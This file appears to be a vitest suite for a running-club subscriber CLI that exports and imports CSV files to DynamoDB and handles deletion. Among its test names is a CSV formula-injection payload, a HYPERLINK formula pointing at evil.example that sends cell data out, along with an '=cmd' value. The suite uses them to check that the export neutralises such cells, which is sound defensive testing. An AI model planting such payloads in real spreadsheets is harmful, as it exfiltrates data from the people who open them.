import { readFile, writeFile, mkdtemp } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { PutCommand, UpdateCommand } from "@aws-sdk/lib-dynamodb";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { DynamoSubscriberAdmin } from "../../functions/adapters/dynamodb/subscribers.js";
import { runnerKey } from "../../functions/adapters/dynamodb/keys.js";
import { pauseRunner } from "../../functions/app/preferences.js";
import { CSV_COLUMNS } from "../../functions/app/subscriber-csv.js";
import { newRunnerId } from "../../functions/app/signup.js";
import type { CliIo } from "../../cli/shared/io.js";
import { runAdmin } from "../../cli/commands/subscribers-admin.js";
import type { Runner } from "../../functions/domain/profile.js";
import { replyKey } from "../../functions/ports/raw-mail.js";
import { nextSendAt } from "../../functions/domain/schedule.js";
import { activeRunner } from "../support/runners.js";
import { emailsTo, scanTable, uniqueEmail } from "../support/stack.js";
import { subscriberDeps } from "./support.js";
import { FUZZ_DEEP } from "../support/fuzz.js";

/** The bulk import: 2,000 rows in the everyday run (two progress lines, four bad rows), 10,000 with LEGWORK_FUZZ_DEEP=1. */
const BULK_ROWS = FUZZ_DEEP ? 10_000 : 2_000;

const NOW = new Date("2026-12-02T12:00:00.000Z");
type Deps = Awaited<ReturnType<typeof subscriberDeps>>;

const captureIo = () => {
  const out: string[] = [];
  const err: string[] = [];
  const io: CliIo = { stdout: (t) => out.push(t), stderr: (t) => err.push(t) };
  return { io, out, err, json: () => JSON.parse(out.join("")) };
};

let dir: string;
const file = (name: string) => join(dir, name);

const HOSTILE_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+44 runner",
  "-2+3",
  "@SUM(A1)",
  "'quoted already",
  'Smith, "Jo"',
  "Zoë «Ünïcödé» 李",
];

/** A table with one runner in every state, and hostile names. */
const populate = async (deps: Deps): Promise<Runner[]> => {
  const admin = new DynamoSubscriberAdmin(deps.doc, deps.config.LEGWORK_TABLE);
  const make = (i: number, overrides: Partial<Runner> = {}) =>
    activeRunner(deps, new Date(NOW.getTime() - (100 - i) * 60_000), {
      name: HOSTILE_NAMES[i % HOSTILE_NAMES.length],
      soreAreas: i % 2 ? ["calves", "lower-back"] : [],
      week: i % 5,
      timezone: ["Europe/London", "Pacific/Auckland", "America/Los_Angeles"][i % 3]!,
      ...overrides,
    });
  const active = await Promise.all(HOSTILE_NAMES.map((_, i) => make(i)));
  const paused = await make(10);
  await pauseRunner({ ...deps, now: () => NOW }, paused.id, 3);
  const unsubscribed = await make(11);
  await deps.runners.unsubscribe(unsubscribed.id, NOW);
  const complained = await make(12);
  await admin.suppress(complained.id, "complained", NOW);
  const completed = await make(13);
  await deps.doc.send(
    new UpdateCommand({
      TableName: deps.config.LEGWORK_TABLE,
      Key: runnerKey(completed.id),
      UpdateExpression: "SET #s = :c, week = :w REMOVE nextSendAt, gsi1pk, gsi1sk",
      ExpressionAttributeNames: { "#s": "status" },
      ExpressionAttributeValues: { ":c": "completed", ":w": 10 },
    }),
  );
  const pending: Runner = {
    ...active[0]!,
    id: newRunnerId(),
    email: uniqueEmail("pending"),
    status: "pending",
    week: 0,
    nextSendAt: undefined,
    confirmedAt: undefined,
    name: undefined,
  };
  await deps.runners.create(pending);
  return deps.runners.list();
};

const csvFields = (r: Runner) => Object.fromEntries(CSV_COLUMNS.map((c) => [c, (r as unknown as Record<string, unknown>)[c] ?? null]));

describe("subscribers export / import", () => {
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "legwork-csv-"));
  });

  it("export then import into an empty table is lossless (every status, hostile names, ids kept)", async () => {
    // Prepare
    const source = await subscriberDeps({ now: () => NOW });
    const runners = await populate(source);
    expect(new Set(runners.map((r) => r.status))).toEqual(
      new Set(["active", "paused", "unsubscribed", "complained", "completed", "pending"]),
    );
    // Act
    const first = captureIo();
    expect(await runAdmin("export", [file("a.csv")], first.io, { deps: source })).toBe(0);
    expect(first.json()).toEqual({ exported: runners.length, file: file("a.csv") });
    const target = await subscriberDeps({ now: () => NOW });
    const imported = captureIo();
    const code = await runAdmin("import", [file("a.csv"), "--confirmed", "--consent-source", "restore from backup"], imported.io, {
      deps: target,
      now: NOW,
    });
    const second = captureIo();
    await runAdmin("export", [file("b.csv")], second.io, { deps: target });
    // Assess
    expect(imported.json()).toMatchObject({ rows: runners.length, imported: runners.length, confirmationsSent: 0, errors: [] });
    expect(code).toBe(0);
    expect(await readFile(file("b.csv"), "utf8")).toBe(await readFile(file("a.csv"), "utf8"));
    expect((await target.runners.list()).map(csvFields)).toEqual(runners.map(csvFields));
    for (const r of runners) expect(await emailsTo(r.email)).toHaveLength(0);
    // The restored runners are scheduled exactly as before: same index entries.
    const index = (items: Record<string, unknown>[]) =>
      items.filter((i) => i["sk"] === "PROFILE").map((i) => [i["pk"], i["gsi1pk"] ?? null, i["gsi1sk"] ?? null]);
    expect(index(await scanTable(target))).toEqual(index(await scanTable(source)));
  });

  it("export guards formula cells with ' and quotes commas, quotes and line breaks (RFC 4180)", async () => {
    // Prepare: a stored name with CR/LF written past the schema (legacy data).
    const deps = await subscriberDeps({ now: () => NOW });
    await populate(deps);
    const legacy = await activeRunner(deps, NOW, { name: "ok" });
    await deps.doc.send(
      new UpdateCommand({
        TableName: deps.config.LEGWORK_TABLE,
        Key: runnerKey(legacy.id),
        UpdateExpression: "SET #n = :n",
        ExpressionAttributeNames: { "#n": "name" },
        ExpressionAttributeValues: { ":n": "Ann\r\nMarie\n=cmd" },
      }),
    );
    // Act
    const { io } = captureIo();
    await runAdmin("export", [file("hostile.csv")], io, { deps });
    // Assess
    const text = await readFile(file("hostile.csv"), "utf8");
    expect(text.split("\r\n")[0]).toBe(CSV_COLUMNS.join(","));
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain(",'+44 runner,");
    expect(text).toContain(",'-2+3,");
    expect(text).toContain(",'@SUM(A1),");
    expect(text).toContain(",''quoted already,");
    expect(text).toContain(`,"Smith, ""Jo""",`);
    expect(text).toContain(`,"Ann\r\nMarie\n=cmd",`);
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength((await deps.runners.list()).length);
    for (const record of records) {
      expect(Object.keys(record)).toEqual([...CSV_COLUMNS]);
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@]/);
    }
  });

  it("CR/LF inside a quoted name stays inside the name (folded to a space) and the next row is intact", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const [a, b] = [uniqueEmail("crlf"), uniqueEmail("after")];
    await writeFile(file("crlf.csv"), `email,name,timezone\r\n${a},"Ann\r\nMarie",Europe/Paris\r\n${b},"Line\nBreak ""Bob""",UTC\r\n`);
    const cli = captureIo();
    expect(await runAdmin("import", [file("crlf.csv"), "--confirmed", "--consent-source", "paper form"], cli.io, { deps, now: NOW })).toBe(
      0,
    );
    expect(cli.json()).toMatchObject({ rows: 2, imported: 2 });
    expect(await deps.runners.getByEmail(a)).toMatchObject({
      name: "Ann Marie",
      timezone: "Europe/Paris",
      status: "active",
      consentSource: "paper form",
    });
    expect(await deps.runners.getByEmail(b)).toMatchObject({ name: 'Line Break "Bob"', timezone: "UTC" });
  });

  it("import line numbers stay right after a quoted cell with CRLF line breaks in it (one line per CRLF, not two)", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    // Line 1 header; 2-3 a two-line quoted name; 4 empty; 5 a bad zone; 6-7 another two-line name; 8 a bad email.
    const rows = [
      "email,name,timezone",
      `${uniqueEmail("ml")},"Ann\r\nMarie",UTC`,
      "",
      `${uniqueEmail("tz")},Bad Zone,Mars/Olympus`,
      `${uniqueEmail("ml2")},"Bo\r\nBrown",UTC`,
      "not-an-email,X,UTC",
    ];
    await writeFile(file("crlf-lines.csv"), `${rows.join("\r\n")}\r\n`);
    const cli = captureIo();
    expect(
      await runAdmin("import", [file("crlf-lines.csv"), "--confirmed", "--consent-source", "paper form"], cli.io, { deps, now: NOW }),
    ).toBe(1);
    const errors = cli.json().errors as { row: number; line: number; field: string }[];
    expect(errors.map((e) => [e.row, e.line, e.field])).toEqual([
      [2, 5, "timezone"],
      [4, 8, "email"],
    ]);
  });

  it("import reports each bad row (row, line, field, message), imports the rest, and never overwrites", async () => {
    // Prepare
    const deps = await subscriberDeps({ now: () => NOW });
    const existing = await activeRunner(deps, NOW);
    const dup = uniqueEmail("dup");
    const good = [uniqueEmail("good1"), uniqueEmail("good2"), uniqueEmail("good3")];
    const lines = [
      "email,name,timezone,sendDay,sendHour,runsPerWeek,soreAreas,status,week,id",
      `${good[0]},Good One,Europe/London,mon,7,3,calves;shins,active,2,`,
      `not-an-email,Bad Email,Europe/London,mon,7,3,,,,`,
      `${uniqueEmail("tz")},Bad Zone,Mars/Olympus,mon,7,3,,,,`,
      `${uniqueEmail("many")},Many Bad,UTC,someday,25,99,elbows,zombie,99,`,
      `${dup},First,UTC,tue,8,2,,,,`,
      `${dup.toUpperCase()},Second Copy,UTC,tue,8,2,,,,`,
      `${existing.email},Already Here,UTC,tue,8,2,,,,`,
      `${uniqueEmail("short")},Too Few Cells`,
      `${good[1]},"Good, Two",America/New_York,fri,18,5,knees hips,,,`,
      `${uniqueEmail("idclash")},Id Clash,UTC,mon,7,3,,,,${existing.id}`,
      `${good[2]},Good Three,UTC,sun,6,0,,,,`,
    ];
    await writeFile(file("mixed.csv"), `${lines.join("\n")}\n`);
    const before = (await scanTable(deps)).filter((i) => i["pk"] === runnerKey(existing.id).pk);
    // Act
    const cli = captureIo();
    const code = await runAdmin("import", [file("mixed.csv"), "--confirmed", "--consent-source", "club sheet"], cli.io, { deps, now: NOW });
    // Assess
    expect(code).toBe(1);
    const result = cli.json();
    expect(result).toMatchObject({ rows: 11, imported: 4 });
    const fieldsByRow = new Map<number, string[]>();
    for (const e of result.errors as { row: number; line: number; field: string; message: string }[]) {
      expect(e.line).toBe(e.row + 1);
      expect(e.message.length).toBeGreaterThan(5);
      fieldsByRow.set(e.row, [...(fieldsByRow.get(e.row) ?? []), e.field]);
    }
    expect(Object.fromEntries(fieldsByRow)).toEqual({
      2: ["email"],
      3: ["timezone"],
      4: expect.arrayContaining(["sendDay", "sendHour", "runsPerWeek", "soreAreas", "status", "week"]),
      6: ["email"],
      7: ["email"],
      8: ["row"],
      10: ["id"],
    });
    expect(await deps.runners.getByEmail(good[0]!)).toMatchObject({ status: "active", week: 2, soreAreas: ["calves", "shins"] });
    expect(await deps.runners.getByEmail(good[1]!)).toMatchObject({ name: "Good, Two", soreAreas: ["hips", "knees"], sendHour: 18 });
    expect(await deps.runners.getByEmail(dup)).toMatchObject({ name: "First" });
    expect((await scanTable(deps)).filter((i) => i["pk"] === runnerKey(existing.id).pk)).toEqual(before);
  });

  it("without --confirmed, imported runners are pending and get a confirmation email; stops and complaints are kept and never mailed", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const [fresh, wasActive, unsub, complained] = [
      uniqueEmail("new"),
      uniqueEmail("active"),
      uniqueEmail("unsub"),
      uniqueEmail("complained"),
    ];
    await writeFile(
      file("pending.csv"),
      [
        "email,status,week,consentSource",
        `${fresh},,,`,
        `${wasActive},active,3,website`,
        `${unsub},unsubscribed,2,`,
        `${complained},complained,1,`,
      ].join("\r\n"),
    );
    const cli = captureIo();
    expect(await runAdmin("import", [file("pending.csv")], cli.io, { deps, now: NOW })).toBe(0);
    expect(cli.json()).toMatchObject({ rows: 4, imported: 4, confirmationsSent: 2 });
    expect(await deps.runners.getByEmail(fresh)).toMatchObject({ status: "pending", consentSource: "csv-import" });
    expect(await deps.runners.getByEmail(wasActive)).toMatchObject({ status: "pending", week: 3 });
    expect((await deps.runners.getByEmail(wasActive))?.nextSendAt).toBeUndefined();
    expect(await deps.runners.getByEmail(unsub)).toMatchObject({ status: "unsubscribed" });
    expect(await deps.runners.getByEmail(complained)).toMatchObject({ status: "complained" });
    const [mail] = await emailsTo(fresh);
    expect(mail?.body.html).toMatch(/\/confirm\?token=[a-z0-9.]+/);
    expect(await emailsTo(wasActive)).toHaveLength(1);
    expect(await emailsTo(unsub)).toHaveLength(0);
    expect(await emailsTo(complained)).toHaveLength(0);
  });

  it("when the confirmation email cannot be sent, the row is reported and the runner stays pending without a send mark", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const email = uniqueEmail("nomail");
    Object.assign(deps, { mailer: { send: async () => Promise.reject(new Error("SES down")), maxSendRate: async () => 10 } });
    await writeFile(file("nomail.csv"), `email\n${email}\n`);
    const cli = captureIo();
    expect(await runAdmin("import", [file("nomail.csv")], cli.io, { deps, now: NOW })).toBe(1);
    expect(cli.json()).toMatchObject({ imported: 1, confirmationsSent: 0, errors: [{ row: 1, field: "email" }] });
    const runner = await deps.runners.getByEmail(email);
    expect(runner).toMatchObject({ status: "pending" });
    expect(runner?.confirmSentAt).toBeUndefined();
  });

  it.each([
    [["import", "x.csv", "--confirmed"]],
    [["import", "x.csv", "--consent-source", "web"]],
    [["import", "x.csv", "--confirmed", "--consent-source"]],
    [["import"]],
    [["export"]],
    [["delete"]],
    [["wipe", "x"]],
  ])("bad usage %j exits 2 and touches nothing", async ([sub, ...argv]) => {
    const deps = await subscriberDeps({ now: () => NOW });
    const cli = captureIo();
    expect(await runAdmin(sub!, argv, cli.io, { deps })).toBe(2);
    expect(cli.err.join("\n")).toContain("usage: legwork subscribers");
    expect(await scanTable(deps)).toEqual([]);
  });

  it("an unreadable tail (unclosed quote) is reported; the rows before it are imported", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const ok = uniqueEmail("before");
    await writeFile(file("broken.csv"), `email,name\n${ok},Fine\n${uniqueEmail("broken")},"never closed\n`);
    const cli = captureIo();
    expect(await runAdmin("import", [file("broken.csv"), "--confirmed", "--consent-source", "x"], cli.io, { deps, now: NOW })).toBe(1);
    const result = cli.json();
    expect(result.imported).toBe(1);
    expect(result.errors).toEqual([expect.objectContaining({ row: 2, field: "csv" })]);
    expect(await deps.runners.getByEmail(ok)).toBeDefined();
  });

  it("a header without email, or a missing file, fails clearly", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    await writeFile(file("noemail.csv"), "name,timezone\nA,UTC\n");
    await expect(runAdmin("import", [file("noemail.csv")], captureIo().io, { deps })).rejects.toThrow(/no "email" column/);
    const missing = captureIo();
    expect(await runAdmin("import", [file("missing.csv")], missing.io, { deps })).toBe(2);
    expect(missing.err.join("\n")).toMatch(/^import: cannot read .*missing\.csv: no such file/);
    expect(missing.err.join("\n")).not.toContain("ENOENT");
    expect(await scanTable(deps)).toEqual([]);
  });

  it("export to - writes the CSV to stdout", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const runner = await activeRunner(deps, NOW);
    const cli = captureIo();
    expect(await runAdmin("export", ["-"], cli.io, { deps })).toBe(0);
    const records = parse(cli.out.join(""), { columns: true }) as Record<string, string>[];
    expect(records).toEqual([expect.objectContaining({ id: runner.id, email: runner.email, status: "active" })]);
  });
});

describe("subscribers import at scale", () => {
  it(`imports a generated ${BULK_ROWS.toLocaleString("en")}-row file, reports the deliberately bad rows, and shows progress on stderr`, async () => {
    // Prepare: every 500th row is bad in one of four ways.
    const deps = await subscriberDeps({ now: () => NOW });
    const zones = ["Europe/London", "America/Chicago", "Asia/Tokyo", "Australia/Perth"];
    const days = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"];
    const bad = new Map<number, string>();
    const lines = ["email,name,level,goal,runsPerWeek,units,timezone,sendDay,sendHour,soreAreas"];
    for (let row = 1; row <= BULK_ROWS; row++) {
      let email = `bulk${row}@example.org`;
      let zone = zones[row % 4]!;
      let hour = String(row % 24);
      let areas = row % 3 ? "calves shins" : "";
      if (row % 500 === 0) {
        const kind = (row / 500) % 4;
        if (kind === 0) email = "broken-address";
        if (kind === 1) zone = "Nowhere/Land";
        if (kind === 2) hour = "24";
        if (kind === 3) areas = "calves wings";
        bad.set(row, ["email", "timezone", "sendHour", "soreAreas"][kind]!);
      }
      lines.push(`${email},"Runner ${row}, Jr",regular,5k,${row % 15},metric,${zone},${days[row % 7]},${hour},${areas}`);
    }
    await writeFile(file("bulk.csv"), lines.join("\r\n"));
    // Act
    const cli = captureIo();
    const code = await runAdmin("import", [file("bulk.csv"), "--confirmed", "--consent-source", "club migration 2026"], cli.io, {
      deps,
      now: NOW,
    });
    // Assess
    expect(code).toBe(1);
    const result = cli.json();
    const badRows = BULK_ROWS / 500;
    expect(result).toMatchObject({ rows: BULK_ROWS, imported: BULK_ROWS - badRows, confirmationsSent: 0 });
    expect(bad.size).toBe(badRows);
    expect(result.errors.map((e: { row: number; field: string }) => [e.row, e.field])).toEqual([...bad.entries()]);
    expect(cli.err.filter((l) => /^import: \d+ rows read/.test(l)).length).toBeGreaterThanOrEqual(BULK_ROWS / 1000);
    expect(cli.err).toContain(`import: ${BULK_ROWS} rows read, ${BULK_ROWS - badRows} imported, ${badRows} rows with errors`);
    expect(result.rowsWithErrors).toBe(badRows);
    const items = await scanTable(deps);
    expect(items.filter((i) => i["sk"] === "PROFILE")).toHaveLength(BULK_ROWS - badRows);
    expect(items.filter((i) => i["sk"] === "EMAIL")).toHaveLength(BULK_ROWS - badRows);
    const sample = await deps.runners.getByEmail("bulk1321@example.org");
    expect(sample).toMatchObject({
      name: "Runner 1321, Jr",
      status: "active",
      consentSource: "club migration 2026",
      timezone: zones[1],
      sendHour: 1321 % 24,
    });
    expect(sample?.nextSendAt).toBe(nextSendAt(sample!, NOW).toISOString());
    expect(items.filter((i) => String(i["gsi1pk"]).startsWith("DUE#"))).toHaveLength(BULK_ROWS - badRows);
  }, 300_000);
});

describe("subscribers delete", () => {
  it("delete EMAIL removes the profile, email item, check-ins and replies; an unknown address exits 1", async () => {
    const deps = await subscriberDeps({ now: () => NOW });
    const runner = await activeRunner(deps, NOW);
    const other = await activeRunner(deps, NOW);
    await deps.doc.send(
      new PutCommand({
        TableName: deps.config.LEGWORK_TABLE,
        Item: { pk: `RUNNER#${runner.id}`, sk: "CHECKIN#2026-12-08T19:00:00.000Z", soreness: 4 },
      }),
    );
    await deps.rawMail.put(replyKey(runner.id, "<r1@x>"), Buffer.from("reply"));
    const cli = captureIo();
    expect(await runAdmin("delete", [runner.email.toUpperCase()], cli.io, { deps })).toBe(0);
    expect(cli.json()).toEqual({ deleted: true, runnerId: runner.id, items: 3, replies: 1 });
    const left = await scanTable(deps);
    expect(left.filter((i) => JSON.stringify(i).includes(runner.id) || JSON.stringify(i).includes(runner.email))).toEqual([]);
    expect(left.filter((i) => JSON.stringify(i).includes(other.id))).toHaveLength(2);
    expect(await deps.rawMail.list("")).toEqual([]);
    const again = captureIo();
    expect(await runAdmin("delete", [runner.email], again.io, { deps })).toBe(1);
    expect(again.json()).toEqual({ deleted: false });
  });
});
